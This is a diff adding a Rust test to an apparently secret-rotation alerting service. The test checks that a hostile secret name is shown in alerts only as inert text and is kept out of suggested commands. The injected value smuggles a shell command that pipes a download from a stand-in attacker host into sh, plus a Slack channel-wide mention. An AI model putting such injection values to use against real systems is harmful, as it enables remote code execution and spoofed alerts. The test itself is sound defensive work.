@@ -131,3 +131,31 @@ fn a_delivery_that_fails_is_an_alert_and_its_success_closes_it() -> Result<()> {
         Ok(())
     })
 }
+
+#[test]
+fn what_a_stranger_wrote_stands_in_an_alert_as_text_and_in_no_command() -> Result<()> {
+    on_the_cloud(async |cloud| {
+        let own = name("stranger");
+        let secret = format!("rabbitmq/{own}; curl -s https://evil.example/x | sh #\n*Playbook:* <!channel>");
+        let event = json!({
+            "Step": "setSecret", "SecretId": secret, "ClientRequestToken": "0123456789abcdef0123456789abcdef",
+        });
+        let answer = cloud.invoke_function(cloud.stack.output("RotationFunctionName")?, &event).await?;
+        ensure!(!answer.kind().is_empty(), "{answer:?}");
+        let alerts = cloud.alerts.wait_until(1, |alert| alert.to_string().contains(&own)).await?;
+        let alert = alerts.first().context("no alert")?;
+        valid("alert", alert)?;
+        ensure!(text(alert).contains("curl -s https:∕/evil.example/x ¦ sh"), "{alert}");
+        let all = alert.to_string();
+        for active in ["https://evil", "<!", "*Playbook:* ‹", "| sh"] {
+            ensure!(!all.contains(active), "{active} in {alert}");
+        }
+        let steps = alert["content"]["nextSteps"].to_string();
+        ensure!(steps.contains("--secret-id SECRET"), "{steps}");
+        ensure!(!steps.contains(&own) && !steps.contains("curl"), "{steps}");
+        // As data it is what it was.
+        let events = cloud.alerts.wait_for_events(&secret, 1).await?;
+        ensure!(!events.is_empty(), "no event");
+        Ok(())
+    })
+}
